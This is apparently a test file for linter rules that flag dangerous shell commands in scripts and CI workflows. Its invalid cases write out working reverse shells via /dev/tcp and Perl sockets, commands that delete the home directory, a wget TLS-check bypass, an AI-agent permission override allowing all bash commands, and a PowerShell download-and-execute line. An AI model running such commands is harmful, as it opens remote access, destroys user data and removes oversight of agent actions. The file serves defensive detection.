import approval from '../../src/rules/no-agent-permission-bypass.ts';
import destructive from '../../src/rules/no-destructive-command.ts';
import remote from '../../src/rules/no-remote-code.ts';
import reverse from '../../src/rules/no-reverse-shell.ts';
import tls from '../../src/rules/no-tls-bypass.ts';
import { ruleTester } from '../tester.ts';
import type { Case } from '../tester.ts';
import { bad, sh } from './carriers.ts';

const pwsh = (run: string): Case => ({ code: `on: push\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: ${run}\n`, filename: '.github/workflows/ci.yml' });
const env = (value: string): Case => ({ code: `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      OPENCODE_PERMISSION: '${value}'\n    steps:\n      - run: npm ci\n`, filename: '.github/workflows/ci.yml' });

await ruleTester(reverse, {
  valid: [
    sh("exec 3<>/dev/tcp/app.acme.dev/80\nprintf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&3\nhead -1 <&3"),
    sh('exec 3> build.log\neval "$COMMAND" >&3 2>&1'),
    sh("perl -MIO::Socket -e 'print IO::Socket::INET->new(\"app.acme.dev:80\") ? 1 : 0'"),
  ],
  invalid: [
    bad(sh("bash -c 'exec 3<>/dev/tcp/203.0.113.5/443; while read -r l <&3; do eval \"$l\" >&3 2>&1; done'"), 'shell'),
    bad(sh('exec 5<>/dev/tcp/203.0.113.5/443\nwhile read -r l; do sh -c "$l" >&5 2>&5; done <&5'), 'shell'),
    bad(sh("perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.5:9001\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"), 'shell'),
  ],
});

await ruleTester(destructive, {
  valid: [sh("perl -e 'use File::Path; rmtree(\"$ENV{HOME}/.cache/app\")'"), sh("ruby -e 'FileUtils.rm_rf(ENV[\"BUILD_DIR\"])'")],
  invalid: [bad(sh("perl -e 'use File::Path; rmtree($ENV{HOME})'"), 'delete'), bad(sh("ruby -rfileutils -e 'FileUtils.rm_rf(ENV[\"HOME\"])'"), 'delete'), bad(sh("python3 -c 'import os,shutil; shutil.rmtree(os.environ[\"HOME\"])'"), 'delete')],
});

await ruleTester(tls, {
  valid: [sh("echo 'check-certificate = on' >> ~/.wgetrc"), sh("echo 'timeout = 5' >> ~/.wgetrc")],
  invalid: [bad(sh("echo 'check-certificate = off' >> ~/.wgetrc"), 'command')],
});

await ruleTester(approval, {
  valid: [sh('OPENCODE_PERMISSION=\'{"bash":"ask","edit":"allow"}\' opencode run x'), sh('OPENCODE_PERMISSION=\'{"bash":{"*":"deny","git status":"allow"}}\' opencode run x'), env('{"edit":"allow"}')],
  invalid: [
    bad(sh('OPENCODE_PERMISSION=\'{"bash":"allow","edit":"allow"}\' opencode run x'), 'variable'),
    bad(sh('export OPENCODE_PERMISSION=\'{"bash":{"*":"allow"}}\''), 'variable'),
    bad(env('{"bash":"allow"}'), 'variable'),
  ],
});

await ruleTester(remote, {
  valid: [pwsh("Invoke-Expression ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")],
  invalid: [bad(pwsh("Invoke-Expression ((New-Object Net.WebClient).DownloadString('http://dl.acme-tools.dev/a.ps1'))"), 'pipe')],
});
